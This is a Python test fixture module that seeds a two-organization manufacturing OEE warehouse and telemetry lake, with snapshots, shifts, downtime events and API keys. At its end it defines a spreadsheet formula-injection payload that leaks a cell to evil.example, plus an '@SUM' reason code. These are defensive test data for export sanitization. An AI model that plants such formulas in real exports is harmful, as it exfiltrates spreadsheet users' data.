"""A small two-organization warehouse and telemetry lake: what the API, BI, export, observability
tests and the API load scenario serve.

`acme` holds 30 days of MACHINE-A01 snapshots (2,880 rows, 2025-01-01 .. 2025-01-30) plus one row on
each side of that range; `globex` holds the same days for MACHINE-B01. Every `globex` id and name
contains `B0`/`Globex`, so a test can tell a foreign row at a glance.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import psycopg
import pyarrow as pa

from oee_pipelines.api.auth import create_api_key, revoke_api_key
from oee_pipelines.domain.telemetry import TELEMETRY_SCHEMA
from oee_pipelines.storage.bulk_load import copy_arrow
from oee_pipelines.storage.lake import Lake

DAY_ONE = datetime(2025, 1, 1, tzinfo=UTC)
WINDOW = timedelta(minutes=15)
FOREIGN_MARKERS = ("B0", "Globex", "globex")

REFERENCE_SQL = """
INSERT INTO organizations (id, name) VALUES ('acme', 'Acme'), ('globex', 'Globex');
INSERT INTO sites (id, org_id, name) VALUES
  ('SITE-A1', 'acme', 'Acme plant'), ('SITE-B01', 'globex', 'Globex plant');
INSERT INTO production_lines (id, org_id, site_id, name, code) VALUES
  ('LINE-A1', 'acme', 'SITE-A1', 'Acme line 1', 'L1'), ('LINE-A2', 'acme', 'SITE-A1', 'Acme line 2', 'L2'),
  ('LINE-B01', 'globex', 'SITE-B01', 'Globex line', 'GL1');
INSERT INTO machines (id, org_id, line_id, name, code) VALUES
  ('MACHINE-A01', 'acme', 'LINE-A1', 'Filler, "north"', 'F1'),
  ('MACHINE-A02', 'acme', 'LINE-A2', 'Capper', 'C1'),
  ('MACHINE-B01', 'globex', 'LINE-B01', 'Globex press', 'GP1');
INSERT INTO shifts (id, org_id, site_id, name, shift_number, start_time, end_time) VALUES
  ('SHIFT-A1', 'acme', 'SITE-A1', 'Early', 1, '06:00', '14:00'),
  ('SHIFT-A2', 'acme', 'SITE-A1', 'Late', 2, '14:00', '22:00'),
  ('SHIFT-B01', 'globex', 'SITE-B01', 'Globex day', 1, '06:00', '18:00');
INSERT INTO products (id, org_id, code, name) VALUES ('PROD-A1', 'acme', 'P1', 'Acme soda');
INSERT INTO work_orders (id, org_id, wo_number, product_id, line_id, planned_quantity, status,
                         planned_start, planned_end)
  VALUES ('WO-A1', 'acme', 'WO-000001', 'PROD-A1', 'LINE-A1', 1000, 'released',
          '2025-01-01T00:00Z', '2025-02-01T00:00Z');
INSERT INTO oee_downtime_events (org_id, machine_id, line_id, start_time, end_time, duration_minutes,
                                 is_planned, reason_code, description, is_resolved, source_system) VALUES
  ('acme', 'MACHINE-A01', 'LINE-A1', '2025-01-02T10:05Z', '2025-01-02T10:25Z', 20, false, 'BRK-MECH',
   'jam, belt "B"
second line', true, 'mes'),
  ('acme', 'MACHINE-A01', 'LINE-A1', '2025-01-03T12:00Z', NULL, NULL, true, 'BREAK', '', false, 'mes'),
  ('acme', 'MACHINE-A02', 'LINE-A2', '2025-01-29T23:59Z', '2025-01-30T00:10Z', 11, false, NULL, NULL,
   true, 'mes'),
  ('globex', 'MACHINE-B01', 'LINE-B01', '2025-01-02T10:05Z', '2025-01-02T10:25Z', 20, false, 'Globex-STOP',
   'Globex stop', false, 'mes');
INSERT INTO shift_reports (org_id, line_id, shift_id, shift_date, shift_start, shift_end, total_pieces,
                           good_pieces, rejected_pieces, oee_pct, status) VALUES
  ('acme', 'LINE-A1', 'SHIFT-A1', '2025-01-02', '2025-01-02T06:00Z', '2025-01-02T14:00Z',
  100, 98, 2, 81.5, 'final'),
  ('acme', 'LINE-A1', 'SHIFT-A2', '2025-01-02', '2025-01-02T14:00Z', '2025-01-02T22:00Z',
  90, 90, 0, NULL, 'draft'),
  ('globex', 'LINE-B01', 'SHIFT-B01', '2025-01-02', '2025-01-02T06:00Z', '2025-01-02T18:00Z',
  5, 5, 0, 50, 'final');
"""


def snapshot_rows(
    org_id: str, machine_id: str, line_id: str, shifts: tuple[str, str], times: list[datetime]
) -> pa.Table:
    count = len(times)
    index = np.arange(count)
    oee = np.round(40 + (index % 50) * 1.001, 3)
    hours = np.array([t.hour for t in times])
    return pa.table(
        {
            "org_id": [org_id] * count,
            "machine_id": [machine_id] * count,
            "line_id": [line_id] * count,
            "shift_id": [shifts[0] if 6 <= h < 14 else shifts[1] for h in hours],
            "work_order_id": ["WO-A1" if org_id == "acme" else None] * count,
            "snapshot_time": pa.array(times, pa.timestamp("us", tz="UTC")),
            "window_start": pa.array([t - WINDOW for t in times], pa.timestamp("us", tz="UTC")),
            # Every tenth window planned nothing: NULL percentages.
            "oee_pct": pa.array([None if i % 10 == 0 else float(v) for i, v in zip(index, oee, strict=True)]),
            "availability_pct": pa.array([None if i % 10 == 0 else 90.5 for i in index]),
            "performance_pct": pa.array([None if i % 10 == 0 else 95.25 for i in index]),
            "quality_pct": pa.array([None if i % 10 == 0 else 99.125 for i in index]),
            "total_pieces": pa.array(index % 7, pa.int32()),
            "good_pieces": pa.array(index % 7, pa.int32()),
        }
    )


def thirty_days() -> list[datetime]:
    return [DAY_ONE + i * WINDOW for i in range(30 * 96)]


def refresh_data_mart(conn: psycopg.Connection) -> None:
    """What the `oee_data_mart` asset does per day, for every day at once: the view into its table."""
    conn.execute("DELETE FROM oee_data_mart_table")
    conn.execute("INSERT INTO oee_data_mart_table SELECT * FROM oee_data_mart")


def seed_warehouse(url: str) -> dict[str, str]:
    """Empty every table, load the two organizations, and return API keys by role."""
    with psycopg.connect(url, autocommit=True) as conn:
        tables = [
            row[0]
            for row in conn.execute(
                "SELECT tablename FROM pg_tables WHERE schemaname = current_schema() "
                "AND tablename <> 'schema_migrations'"
            ).fetchall()
        ]
        conn.execute("TRUNCATE " + ", ".join(f'"{t}"' for t in tables) + " RESTART IDENTITY CASCADE")
        conn.execute(REFERENCE_SQL)
        edges = [DAY_ONE - WINDOW, DAY_ONE + 30 * 96 * WINDOW]
        copy_arrow(
            conn,
            "oee_snapshots",
            snapshot_rows("acme", "MACHINE-A01", "LINE-A1", ("SHIFT-A1", "SHIFT-A2"), thirty_days() + edges),
        )
        copy_arrow(
            conn,
            "oee_snapshots",
            snapshot_rows("acme", "MACHINE-A02", "LINE-A2", ("SHIFT-A1", "SHIFT-A2"), thirty_days()[:96]),
        )
        copy_arrow(
            conn,
            "oee_snapshots",
            snapshot_rows("globex", "MACHINE-B01", "LINE-B01", ("SHIFT-B01", "SHIFT-B01"), thirty_days()),
        )
        refresh_data_mart(conn)
        keys = {
            "acme": create_api_key(conn, "acme", "acme BI")[1],
            "globex": create_api_key(conn, "globex", "globex BI")[1],
        }
        revoked_id, keys["revoked"] = create_api_key(conn, "acme", "old laptop")
        revoke_api_key(conn, str(revoked_id))
    return keys


def telemetry_table(org_id: str, machine_id: str, start: datetime, minutes: int) -> pa.Table:
    times = [start + timedelta(minutes=m) for m in range(minutes)]
    rows = []
    for signal, unit in (("temperature", "C"), ("pressure", "bar")):
        for m, ts in enumerate(times):
            rows.append(
                {
                    "org_id": org_id, "site_id": None, "line_id": None, "machine_id": machine_id,
                    "signal": signal, "ts": ts, "value": m % 10 + (0.5 if signal == "pressure" else 0.0),
                    "text_value": None, "unit": unit, "quality": 100, "source_system": "simulator",
                    "source_ref": "test", "ingest_run_id": "test",
                }
            )  # fmt: skip
    return pa.Table.from_pylist(rows, schema=TELEMETRY_SCHEMA)


def build_lake(root: Path) -> str:
    """Two days of one-minute readings (temperature, pressure) for MACHINE-A01 and MACHINE-B01."""
    lake = Lake(str(root))
    for day in (DAY_ONE, DAY_ONE + timedelta(days=1)):
        folder = f"telemetry/source=simulator/{Lake.date_folder(day.date())}"
        lake.write_file(f"{folder}/part-acme.parquet", telemetry_table("acme", "MACHINE-A01", day, 24 * 60))
        lake.write_file(
            f"{folder}/part-globex.parquet", telemetry_table("globex", "MACHINE-B01", day, 24 * 60)
        )
    return str(root)


# A downtime row written to attack a spreadsheet (the export tests).
HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
HOSTILE_DOWNTIME_SQL = """
INSERT INTO oee_downtime_events (org_id, machine_id, line_id, start_time, end_time, duration_minutes,
                                 is_planned, reason_code, description, is_resolved, source_system)
VALUES ('acme', 'MACHINE-A01', 'LINE-A1', '2025-01-02T11:00Z', '2025-01-02T11:05Z', 5, false, '@SUM(1+1)',
        %s, true, 'import')
"""
